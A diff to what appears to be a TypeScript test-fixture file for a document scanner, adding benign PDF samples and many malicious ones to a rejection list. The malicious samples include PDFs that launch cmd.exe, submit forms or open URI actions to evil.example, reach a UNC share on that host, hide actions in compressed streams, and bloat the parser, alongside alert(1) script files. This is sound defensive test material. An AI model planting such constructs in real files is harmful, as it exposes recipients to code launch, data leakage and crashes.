@@ -56,6 +56,34 @@ export function pngOf(width: number, height: number, { pixels = true } = {}): Bu
 const manyPages = Array.from({ length: 30 }, (_, n) => `${n + 10} 0 obj\n<< /Type /Page >>\nendobj\n`).join('')
 const action = (words: string) => pdf({ objects: `9 0 obj\n<< /Type /Action ${words} >>\nendobj\n` })
 
+const address = '/Type /Action /S /URI /URI (https://evil.example)'
+/** A catalog that says what opening the file does. */
+const opening = (what: string, objects = '') => `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${what} >>\nendobj\n${objects}`
+
+/** What ordinary writers of PDFs do, and nobody is harmed by. */
+export const goodPdfs: [name: string, content: Buffer][] = [
+  ['a link to tap', pdf({ objects: `9 0 obj\n<< /Type /Annot /Subtype /Link /A << ${address} >> >>\nendobj\n` })],
+  ['a page to open at', pdf({ objects: opening('[3 0 R /Fit]', `9 0 obj\n<< ${address} >>\nendobj\n`) })],
+  [
+    'an action that leads to a page',
+    pdf({ objects: opening('9 0 R', `9 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n8 0 obj\n<< ${address} >>\nendobj\n`) }),
+  ],
+  [
+    'the same, packed',
+    Buffer.concat([
+      pdf({ objects: opening('9 0 R', `8 0 obj\n<< ${address} >>\nendobj\n`) }).subarray(0, -6),
+      objectStream(deflateSync('9 0 << /S /GoTo /D [3 0 R /Fit] >>')),
+    ]),
+  ],
+  [
+    'an outline',
+    pdf({
+      objects:
+        '9 0 obj\n<< /Type /Outlines /First 8 0 R /Title (Downstream (100%) endobj) >>\nendobj\n8 0 obj\n<< >>\nstream\n/F1 12 Tf\nendstream\nendobj\n',
+    }),
+  ],
+]
+
 export const badFiles: [name: string, content: Buffer][] = [
   ['page.html', text('<!doctype html><script>alert(1)</script>')],
   ['picture.svg', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
@@ -94,6 +122,22 @@ export const badFiles: [name: string, content: Buffer][] = [
   ['launch.pdf', action('/S /Launch /F (cmd.exe)')],
   ['form.pdf', action('/S /SubmitForm /F (https://evil.example)')],
   ['carrier.pdf', pdf({ objects: '9 0 obj\n<< /Type /EmbeddedFile >>\nstream\nMZ\nendstream\nendobj\n' })],
+  ['server.pdf', action('/S /GoToR /F (\\\\\\\\evil.example\\\\share)')],
+  ['server-in-hex.pdf', action('/S /GoTo /F <5c5c6576696c>')],
+  ['filespec.pdf', pdf({ objects: '9 0 obj\n<< /Type /Filespec /EF << /F 8 0 R >> >>\nendobj\n' })],
+  ['hidden-server.pdf', objectStream(deflateSync('9 0 << /S /GoToR /D [0 /Fit] >>'))],
+  ['opens-address.pdf', pdf({ objects: opening('9 0 R', `9 0 obj\n<< ${address} >>\nendobj\n`) })],
+  ['opens-address-at-once.pdf', pdf({ objects: opening(`<< ${address} >>`) })],
+  ['opens-address-next.pdf', pdf({ objects: opening(`<< /S /GoTo /D [3 0 R /Fit (>>)] /Next << ${address} >> >>`) })],
+  ['opens-address-with-page.pdf', pdf({ objects: `9 0 obj\n<< /Type /Page /AA << /O << ${address} >> >> >>\nendobj\n` })],
+  [
+    'opens-hidden-address.pdf',
+    Buffer.concat([pdf({ objects: opening('9 0 R') }).subarray(0, -6), objectStream(deflateSync(`9 0 << ${address} >>`))]),
+  ],
+  ['unlabelled.pdf', objectStream(deflateSync(hiddenScript), '/FlateDecode', '/Font')],
+  ['nameless.pdf', Buffer.from(objectStream(deflateSync(hiddenScript)).toString('latin1').replace('/Type /ObjStm ', ''), 'latin1')],
+  ['knotted-outline.pdf', pdf({ objects: `9 0 obj\n${'/First endobj '.repeat(600_000)}` })],
+  ['opens-much.pdf', pdf({ objects: `9 0 obj\n<< ${address} >>\nendobj\n${'/OpenAction 9 0 R '.repeat(300_000)}` })],
   ['xfa.pdf', action('/XFA 9 0 R')],
   ['hidden.pdf', objectStream(deflateSync(hiddenScript))],
   ['commented.pdf', pdf({ objects: '%stream\n9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%endstream\n' })],
